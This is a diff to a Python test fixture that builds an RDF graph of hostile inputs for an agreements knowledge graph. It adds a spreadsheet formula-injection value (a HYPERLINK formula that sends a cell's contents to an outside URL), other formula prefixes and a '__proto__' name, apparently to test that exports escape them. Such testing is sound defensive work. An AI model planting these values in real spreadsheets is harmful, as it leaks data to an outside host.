@@ -98,10 +98,45 @@ def make_hostile() -> list[Triple]:
         Triple(evidence, NamedNode(KJ + "about"), agreement),
         Triple(evidence, NamedNode(KJ + "source"), source),
         Triple(evidence, NamedNode(KJ + "verification"), NamedNode(KJR + "verification-unverified")),
+        *_make_hostile_reports(attack),
         *make_thing("Person", "__proto__", "Person named like a prototype", "시험", "テスト"),
         Triple(NamedNode(KJR + "__proto__"), NamedNode(KJ + "concerns"), agreement),
     ]
     return graph
+
+
+FORMULA = '=HYPERLINK("http://example.org/"&A1,"open")'
+AWKWARD = 'a "quote", a \\ stroke,\n a line\tand a sign \x01 of control, 𠀋 & <b>'
+
+
+def _make_hostile_reports(attack: str) -> Iterator[Triple]:
+    """Yield what lets hostile words into sheets, dossiers and the files that are taken along."""
+    agreement, life = NamedNode(KJR + "agreement-hostile"), NamedNode(KJR + "life-hostile")
+    matter, position = NamedNode(KJR + "matter-hostile"), NamedNode(KJR + "position-hostile")
+    day = Literal("2020-02-02", datatype=NamedNode(XSD + "date"))
+    yield Triple(life, TYPE, NamedNode(KJ + "LifeEvent"))
+    yield Triple(life, NamedNode(KJ + "ofAgreement"), agreement)
+    yield Triple(life, NamedNode(KJ + "lifeKind"), NamedNode(KJR + "life-kind-signed"))
+    yield Triple(life, NamedNode(KJ + "date"), day)
+    yield Triple(life, NamedNode(SKOS + "note"), Literal(attack, language="en"))
+    yield from make_thing("ContestedMatter", "matter-hostile", attack, attack, attack)
+    yield Triple(matter, NamedNode(KJ + "concerns"), agreement)
+    yield Triple(matter, NamedNode(SKOS + "note"), Literal(attack, language="en"))
+    yield Triple(position, TYPE, NamedNode(KJ + "Position"))
+    yield Triple(position, NamedNode(KJ + "onMatter"), matter)
+    yield Triple(position, NamedNode(KJ + "heldBy"), NamedNode(KJR + "state-japan"))
+    yield Triple(position, NamedNode(KJ + "from"), day)
+    yield Triple(position, NamedNode(KJ + "formulation"), Literal(attack, language="en"))
+    yield from make_thing("Event", "event-formula", FORMULA, "@SUM(A1)", "+1+1")
+    yield Triple(NamedNode(KJR + "event-formula"), NamedNode(KJ + "date"), day)
+    yield Triple(NamedNode(KJR + "event-formula"), NamedNode(SKOS + "altLabel"), Literal(AWKWARD, language="en"))
+    yield Triple(NamedNode(KJR + "event-formula"), NamedNode(KJ + "unheardOf"), Literal(AWKWARD))
+    yield Triple(
+        NamedNode(KJR + "event-formula"),
+        NamedNode(KJ + "unheardOf"),
+        Literal("1.5", datatype=NamedNode(XSD + "decimal")),
+    )
+    yield Triple(NamedNode(KJR + "event-formula"), NamedNode(SKOS + "altLabel"), Literal("Formula", language="en-GB"))
 
 
 def make_thing(type_name: str, slug: str, en: str, ko: str, ja: str) -> Iterator[Triple]:
